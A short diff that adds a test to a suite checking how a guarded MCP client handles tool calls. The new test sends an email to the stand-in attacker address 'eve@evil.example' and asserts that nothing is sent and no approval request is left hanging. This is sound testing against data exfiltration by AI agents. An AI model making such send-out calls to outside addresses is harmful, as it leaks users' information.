@@ -77,6 +77,15 @@ describe("a client of an MCP server", () => {
     assert.deepEqual([about.sort(), office.sent], [["c1", "c2"], ["mallory@evil.example"]]);
   });
 
+  it("leaves no question behind that nobody answers", async () => {
+    const office = new Office(BENIGN);
+    const { session, mail } = await guarded(office, { approvalSeconds: 0.01 });
+    await session.attach("page", "eve@evil.example");
+    await mail.callTool({ name: "send_email", arguments: { to: "eve@evil.example", body: "notes" } });
+    const open = (await client().pending()).filter((one) => one.session === session.id);
+    assert.deepEqual([open, office.sent], [[], []]);
+  });
+
   it("calls nothing when decisions get lost", async () => {
     const office = new Office(BENIGN);
     await assert.rejects(agent(await guarded(office, {}, undecided)), RemitError);
